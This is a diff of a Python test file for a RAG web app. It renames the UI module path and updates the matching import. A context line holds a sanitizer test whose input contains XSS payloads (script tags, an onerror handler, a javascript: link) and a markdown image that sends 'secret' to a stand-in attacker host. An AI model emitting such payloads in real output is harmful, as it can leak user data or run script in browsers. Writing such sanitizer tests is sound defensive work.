@@ -1,4 +1,4 @@
-"""The web app: the pure rendering helpers (rag/ui.py), then the real app in a subprocess driven by gradio_client.
+"""The web app: the pure rendering helpers (rag/app/ui.py), then the real app in a subprocess driven by gradio_client.
 
 The subprocess starts on an empty store, so it ingests the bundled corpus itself (~20 s) before serving.
 """
@@ -19,7 +19,7 @@ from pathlib import Path
 
 import pytest
 
-from rag import ui
+from rag.app import ui
 from rag.config import ROOT
 from rag.model import Answer, Citation, Document, Paragraph, Position
 
@@ -102,7 +102,7 @@ def paragraphs(n: int = 12, doc: str = "d1") -> list[Paragraph]:
     return out
 
 
-# ============================================================================================== rag/ui.py
+# ============================================================================================== rag/app/ui.py
 def test_clean_markdown_strips_images_links_and_html():
     text = ('See ![pixel](http://evil.example/?q=secret) and [click](javascript:alert(1)) <img src=x onerror=alert(1)>'
             '<script>alert(2)</script> <!-- hidden --> ![ref][r]\n[r]: http://evil.example/x.png\nkeep [3] and a < b')
